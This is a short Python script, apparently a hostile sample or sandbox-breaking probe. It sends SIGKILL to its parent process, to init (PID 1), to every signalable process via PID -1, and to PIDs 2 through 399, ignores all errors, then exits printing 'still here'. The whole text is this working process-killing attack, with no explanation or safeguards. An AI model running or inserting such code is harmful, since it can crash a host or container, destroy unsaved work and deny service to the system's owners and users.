# Signals to everybody: the parent, the first process, all.
import os
import signal

for pid in (os.getppid(), 1, -1, *range(2, 400)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
raise SystemExit("still here")
